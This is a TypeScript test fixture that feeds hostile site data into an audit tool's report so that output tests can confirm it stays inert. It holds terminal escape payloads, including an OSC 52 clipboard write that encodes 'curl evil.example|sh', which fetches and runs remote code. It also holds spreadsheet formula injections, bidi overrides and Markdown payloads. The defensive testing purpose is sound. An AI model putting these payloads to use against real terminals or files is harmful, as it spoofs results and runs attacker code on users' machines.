/**
 * A report judged by the real engine from observations a hostile site could produce: escape
 * sequences (cursor up, line erase, OSC 52 clipboard write), carriage returns, bidi overrides and C1
 * controls in a GA hit's `tid`, cookie names and domains, banner text and URLs; spreadsheet formula
 * starts; Markdown autolinks, mentions and issue references; identifiers in tracker beacons.
 * The output tests check every format and the terminal keep all of it inert.
 *
 * @example
 *   const report = hostileReport();
 *   render(report, 'md'); // no live @mention, link or raw control byte
 */
import { errorSite } from '../../src/engine.ts';
import type { Report } from '../../src/model.ts';
import { ENGINE } from '../../defaults/engine.ts';
import { banner, cookie, createObservations, request } from './observations.ts';

/** Terminal attacks: move up and erase the FAIL line, write the clipboard, return to column 0, flip text, a one-byte CSI. */
export const TERMINAL_PAYLOAD = '\u001b[1A\u001b[2K\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\rPASS\u202e\u2066\u009b31m\u0085';
/** The same, percent-encoded in a GA hit's `tid` (the rule decodes it and quotes it in its message). */
export const ENCODED_TID = 'UA-1%1B[1A%1B[2K%1B]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=%07%0DPASS%E2%80%AE%E2%81%A6%C2%9B31m%C2%85';
/** What GitHub's Markdown would turn into links or notifications. */
export const MARKDOWN_PAYLOAD = '@octocat #123 www.evil.example https://evil.example/x <b>bold</b> `code` [link](https://evil.example/) ![i](https://evil.example/i.png)';
/** French Excel splits on `;`; the cell after it starts with `=`. */
export const FORMULA_URL = 'https://a.example/p;=1+1';

export const HOSTILE_SITE = `https://evil.example/${encodeURIComponent('x')}?q=${TERMINAL_PAYLOAD}`;

/** Identifiers a beacon carries (must be redacted by default) and what the rules judge (kept). */
export const IDENTIFIERS = { cid: '555123.1700000000', uid: 'user-42', _fbp: 'fb.1.1700000000.987654', dl: 'https://evil.example/account?email=jane@example.fr', dr: 'https://referrer.example/', _gid: 'GA1.2.111.222' };

export function hostileReport(): Report {
  const gaHit = `https://www.google-analytics.com/collect?v=1&tid=${ENCODED_TID}&t=pageview&cid=${IDENTIFIERS.cid}&uid=${IDENTIFIERS.uid}&dl=${encodeURIComponent(IDENTIFIERS.dl)}&dr=${encodeURIComponent(IDENTIFIERS.dr)}&_gid=${IDENTIFIERS._gid}`;
  const fbHit = `https://www.facebook.com/tr/?id=123&ev=PageView&_fbp=${IDENTIFIERS._fbp}&dl=${encodeURIComponent(IDENTIFIERS.dl)}`;
  const hostileText = `${TERMINAL_PAYLOAD} ${MARKDOWN_PAYLOAD} ${FORMULA_URL} ;@SUM(1) \t=cmd ＝1+1 ＋1 －1 ＠x`;
  const obs = createObservations({
    initial: {
      cookies: [
        cookie({ name: `_ga${TERMINAL_PAYLOAD}`, source: 'script', domain: `evil.example${TERMINAL_PAYLOAD}`, setterUrl: FORMULA_URL, frameUrl: HOSTILE_SITE }),
        cookie({ name: '=HYPERLINK("https://evil.example","x")', source: 'script', declaredMaxAge: 63_072_000 }),
        cookie({ name: `@${MARKDOWN_PAYLOAD}`, source: 'script' }),
        cookie({ name: '＝1+1', source: 'script', setterUrl: `\t=1+1` }),
      ],
      requests: [
        request({ url: gaHit }),
        request({ url: 'https://www.google-analytics.com/batch', method: 'POST', postData: `v=1&tid=UA-9-9&t=event&cid=${IDENTIFIERS.cid}&user_id=${IDENTIFIERS.uid}\nv=1&tid=UA-9-9&t=pageview&cid=${IDENTIFIERS.cid}&aip=1` }),
        request({ url: fbHit }),
      ],
      banner: banner({ detected: true, cmp: `cmp${TERMINAL_PAYLOAD}`, method: 'heuristic', text: hostileText, acceptFound: true, rejectFound: true, rejectOnFirstLayer: true }),
    },
    accepted: {},
    refused: { cookies: [cookie({ name: `_fbp${TERMINAL_PAYLOAD}`, source: 'script', domain: 'evil.example' })], banner: banner({ detected: true, clicked: 'reject', clickWorked: true, acceptFound: true, rejectFound: true, rejectOnFirstLayer: true }) },
  }, { url: HOSTILE_SITE, finalUrl: `${HOSTILE_SITE}&md=${MARKDOWN_PAYLOAD}` });
  const site = ENGINE.auditSite(obs);
  const down = errorSite(FORMULA_URL, 'dns', `net::ERR_NAME_NOT_RESOLVED ${hostileText}`);
  return ENGINE.buildReport([site, down], undefined, '2025-03-01T10:00:00.000Z');
}

/** Every raw byte a terminal or a non-JSON file must never get from a site: C0 but tab/LF (and CR where allowed), DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
export const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
